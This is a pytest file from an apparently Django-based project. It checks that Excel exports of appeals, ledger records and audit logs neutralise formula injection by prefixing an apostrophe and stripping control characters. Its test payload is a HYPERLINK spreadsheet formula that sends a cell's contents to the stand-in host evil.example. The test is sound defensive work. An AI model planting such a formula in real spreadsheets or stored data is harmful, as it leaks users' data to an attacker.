"""Every Excel export writes hostile stored text as inert text: a cell a spreadsheet would evaluate
(beginning with =, +, -, @, a tab or a carriage return) comes back as a string behind an
apostrophe, never as a formula, and a control character in stored text is removed instead of
failing the whole export."""

from __future__ import annotations

from io import BytesIO

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from conftest import signed_in
from jingmin.appeals import services as appeals
from jingmin.appeals.models import Appeal
from jingmin.appeals.tests.conftest import appeal_input
from jingmin.audit.services import audit_record
from jingmin.core.sheets import FORMULA_STARTS, cell_value
from jingmin.ledger import services as ledger
from jingmin.ledger.models import Organisation, Person
from jingmin.ledger.tests.conftest import ledger_in_a1

PAYLOAD = 'HYPERLINK("http://evil.example/?"&B2,"点此")'
BELL = "\x07"  # a control character openpyxl refuses to write


def _cells(response) -> list:
    assert response.status_code == 200, response
    book = load_workbook(BytesIO(b"".join(response.streaming_content)))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _assert_inert(cells: list, start: str) -> None:
    hostile = [c for c in cells if isinstance(c.value, str) and PAYLOAD in c.value]
    assert hostile, "the hostile text is not in the export"
    for cell in cells:
        assert cell.data_type != "f", f"{cell.coordinate} is a formula: {cell.value!r}"
    for cell in hostile:
        # Where the payload is inside a longer text (a record's name after its code), it is inert.
        assert cell.data_type == "s" and not cell.value.startswith(FORMULA_STARTS), repr(cell.value)
        assert BELL not in cell.value
    # (XML reads a carriage return back as a line feed.)
    written = "'" + start.replace("\r", "\n") + PAYLOAD
    assert any(c.value.startswith(written) for c in hostile), [c.value for c in hostile]


@pytest.mark.parametrize("start", FORMULA_STARTS, ids=[repr(s) for s in FORMULA_STARTS])
@pytest.mark.django_db
def test_every_export_writes_formulas_as_text(persona, start):
    hostile = f"{start}{PAYLOAD}{BELL}"

    # Appeals: the title and the citizen's masked name (its first character is shown).
    # (Forms trim a leading tab or carriage return; the stored text is set as it might be.)
    appeals.appeal_register(actor=persona.clara, data=appeal_input(citizen_name=f"{start}王{BELL}"))
    Appeal.objects.update(title=hostile)
    cells = _cells(signed_in(persona.clara).get(reverse("appeals:export")))
    _assert_inert(cells, start)
    if start.strip():
        masked = [c for c in cells if isinstance(c.value, str) and c.value.startswith(f"'{start}*")]
        assert masked, "the masked name starting with the prefix is not neutralised"

    # The ledger: a person's and an organisation's names, as stored (whatever way they came in).
    a1 = ledger_in_a1(persona)
    Person.objects.filter(pk=a1["person"].pk).update(name=hostile)
    ledger.organisation_create(
        actor=persona.oliver, address_id=a1["address"].pk, data=ledger.OrganisationInput(name="东门超市")
    )
    Organisation.objects.update(name=hostile)
    _assert_inert(_cells(signed_in(persona.oliver).get(reverse("ledger:export_persons"))), start)
    _assert_inert(_cells(signed_in(persona.oliver).get(reverse("ledger:export_organisations"))), start)

    # The audit log: a record's name, written by whoever names it.
    audit_record(actor=persona.clara, action="appeal.export", target_type="appeal", target_repr=hostile)
    _assert_inert(_cells(signed_in(persona.audrey).get(reverse("audit:export"))), start)


def test_only_text_is_touched():
    assert cell_value(-3) == -3 and cell_value(None) is None
    assert cell_value("张三") == "张三" and cell_value("a-b") == "a-b"
    assert cell_value("line\nbreak\ttab") == "line\nbreak\ttab"
    assert cell_value("-12") == "'-12" and cell_value("@x") == "'@x"
    assert cell_value("a\x00b\x1fc") == "abc"
